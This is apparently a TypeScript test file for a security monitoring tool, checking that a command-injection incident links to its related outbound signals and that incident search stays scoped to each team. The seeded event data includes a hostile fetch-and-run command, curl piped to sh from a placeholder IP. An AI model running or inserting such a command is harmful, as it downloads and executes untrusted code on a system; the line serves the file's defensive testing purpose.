import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Engine } from '../engine/engine.ts';
import { saveScan } from '../scans/save.ts';
import { migrate } from '../schema/migrate.ts';
import { asReader, asWriter } from '../store.ts';
import { engines, startEngine, type TestEngine } from '../testing/engines.ts';
import { scanOf } from '../testing/scan.ts';
import { aftermathOf } from './aftermath.ts';
import { search } from './search.ts';
import { findSignal } from './threats.ts';

const now = new Date('2026-12-01T10:00:00Z');
const time = '2026-12-01T09:10:00.000000Z';
const keyOf = (nth: number) => `00000000-0000-4000-8000-00000000000${nth}`;

describe.each(engines)('%s', (kind) => {
  let started: TestEngine;
  let engine: Engine;
  const teams: number[] = [];

  beforeAll(async () => {
    started = await startEngine(kind);
    ({ engine } = started);
    await migrate(engine, now);
    for (const name of ['shop', 'bank']) {
      const team = await asWriter(engine, async (connection) => {
        const { rows } = await connection.query('insert into team (name) values ($1) returning id', [name]);
        return Number(rows[0]?.['id']);
      });
      teams.push(team);
      await saveScan(engine, team, scanOf(name, now), now);
    }
    await asWriter(engine, async (connection) => {
      const { rows } = await connection.query(
        `select fn.id from fn join app on app.id = fn.app where app.name = 'shop'`,
      );
      const [fn, team] = [rows[0]?.['id'], teams[0]];
      const rule = await connection.query(
        `insert into rule (team, fn, match, section) values ($1, $2, 'outbound/(all other)', null) returning id`,
        [team, fn],
      );
      const host = await connection.query(
        `insert into destination (team, name) values ($1, '203.0.113.9:443') returning id`,
        [team],
      );
      await connection.query(
        `insert into hit_hour (fn, hour, rule, destination, team, n) values ($1, '2026-12-01T09:00Z', $2, $3, $4, 3)`,
        [fn, rule.rows[0]?.['id'], host.rows[0]?.['id'], team],
      );
      const signals = [
        ['one', '/bin/sh -c "curl 198.51.100.7|sh"', 3],
        ['one', '203.0.113.9:443', 1],
        ['two', 'another invocation', 1],
      ];
      for (const [at, [invocation, what, section]] of signals.entries())
        await connection.query(
          `insert into event (time, key, team, fn, kind, section, signal, invocation, evidence, class)
           values ($1, $2, $3, $4, 3, $5, $6, $7, $8, $9)`,
          [
            time,
            keyOf(at),
            team,
            fn,
            section,
            `em-${at}`,
            invocation,
            JSON.stringify({ what }),
            at === 0 ? 'cmdi' : null,
          ],
        );
    });
  });
  afterAll(() => started.remove());

  test('a threat has the other signals of its invocation, and the calls of its hour', async () => {
    const after = await asReader(engine, [teams[0] ?? 0], async (connection) => {
      const threat = await findSignal(connection, time, keyOf(0));
      return threat && aftermathOf(connection, threat);
    });
    expect(after).toMatchObject({
      from: '2026-12-01T09:00:00.000Z',
      signals: [{ key: keyOf(1), section: 'outbound', what: '203.0.113.9:443' }],
      hour: [{ section: 'outbound', destination: '203.0.113.9:443', isRefused: true, n: 3 }],
    });
  });

  test('a text within the call of a threat is found, by its team alone', async () => {
    const found = (team: number | undefined, text = '198.51.100.7') =>
      asReader(engine, [team ?? 0], (connection) => search(connection, text));
    expect((await found(teams[0])).rows).toMatchObject([
      { kind: 'incident', text: '/bin/sh -c "curl 198.51.100.7|sh"', about: 'em-0', function: 'Admin' },
    ]);
    expect((await found(teams[1])).rows).toEqual([]);
    expect((await found(teams[0], 'admin curl')).rows).toMatchObject([
      { kind: 'incident', signal: { id: 'em-0', key: keyOf(0) } },
    ]);
    expect((await found(teams[0], 'command injection admin')).rows).toMatchObject([
      { kind: 'incident', text: '/bin/sh -c "curl 198.51.100.7|sh"' },
    ]);
    expect((await found(teams[0], 'other curl')).rows).toEqual([]);
  });
});
